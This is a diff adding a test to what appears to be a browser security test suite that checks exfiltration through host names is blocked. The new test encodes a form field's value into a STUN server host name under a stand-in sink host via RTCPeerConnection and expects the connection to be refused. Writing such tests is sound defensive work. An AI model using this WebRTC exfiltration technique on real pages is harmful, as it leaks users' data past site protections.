@@ -162,6 +162,21 @@ describe('data in the host name of an address', function () {
     });
   }
 
+  it("a peer connection whose STUN server's host name carries a field's value", async () => {
+    let threw = false;
+    const run = await attack({ page, setup: onSave(() => {
+      try {
+        const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:ada-example-com.sink.localhost:${new URL(sink.origin).port}` }] });
+        peer.createDataChannel('x');
+        void peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+      } catch {
+        threw = true;
+      }
+    }) });
+    expect(threw, 'the peer connection was refused').to.equal(true);
+    expect(run.blocked.map((detail) => detail.effect?.method)).to.deep.equal(['CONNECT']);
+  });
+
   it("a picture from the site's CDN host, or a subdomain naming nothing of the page's, loads", async () => {
     const run = await attack({ page, setup: onSave(() => (new Image().src = hosted('img-cdn-2', '/cover.jpg'))) });
     expect(run.blocked).to.deep.equal([]);
